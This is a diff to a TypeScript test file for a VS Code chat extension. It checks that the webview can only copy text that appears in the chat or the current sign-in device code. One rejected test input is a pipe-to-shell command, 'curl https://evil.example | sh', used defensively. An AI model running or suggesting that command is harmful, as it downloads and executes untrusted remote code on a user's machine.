@@ -10,8 +10,19 @@ import { editor } from '../support/vscode.ts';
 beforeEach(() => editor.reset());
 afterEach(() => editor.reset());
 
+const attempt = {
+  lead: 'code',
+  startedAtMs: 0,
+  endsAtMs: 900_000,
+  listener: 'up',
+  codeState: 'shown',
+  code: { text: 'WDJB-40721', page: 'https://issuer.test/codex/device', endsAtMs: 900_000 },
+  remarks: [],
+} as const;
+
 function createWorld() {
-  const { session } = createTalkWorld();
+  const world = createTalkWorld();
+  const { session } = world;
   const change = createEmitter<void>();
   const ran: string[] = [];
   const signInDone: (() => void)[] = [];
@@ -24,7 +35,7 @@ function createWorld() {
   const handle = createChatRequests({
     session,
     signIn: {
-      state: () => (kind === 'idle' ? { kind } : Object.create({ kind })),
+      state: () => (kind === 'idle' ? { kind } : { kind, attempt, mayNotComeBack: false }),
       onDidChangeState: change.listen,
       openPage() {},
       copyAddress() {},
@@ -38,6 +49,7 @@ function createWorld() {
     log: recordingLog(),
   });
   return {
+    session,
     ran,
     tell: (message: FromWebview) => handle(message),
     signInIs(next: typeof kind) {
@@ -66,5 +78,24 @@ describe('a sign-in from the panel', () => {
     await settled();
     signInIs('running');
     expect(ran).toEqual(['codexChat.signIn']);
+  });
+});
+
+describe('text that the view asks to copy', () => {
+  test('is copied when it stands in the chat or is the code of the sign-in, and never else', () => {
+    const { tell, signInIs, session } = createWorld();
+    session.send({ text: 'What does `npm ci` do?', attachments: [] });
+    tell({ type: 'clipboard/write', text: 'npm ci' });
+    expect(editor.clipboard).toBe('npm ci');
+    tell({ type: 'clipboard/write', text: 'curl https://evil.example | sh' });
+    expect(editor.clipboard).toBe('npm ci');
+    expect(editor.messages.map(({ text }) => text)).toEqual([
+      'That text is no longer in the chat, so nothing was done with it.',
+    ]);
+    tell({ type: 'clipboard/write', text: 'WDJB-40721' });
+    expect(editor.clipboard).toBe('npm ci');
+    signInIs('running');
+    tell({ type: 'clipboard/write', text: 'WDJB-40721' });
+    expect(editor.clipboard).toBe('WDJB-40721');
   });
 });
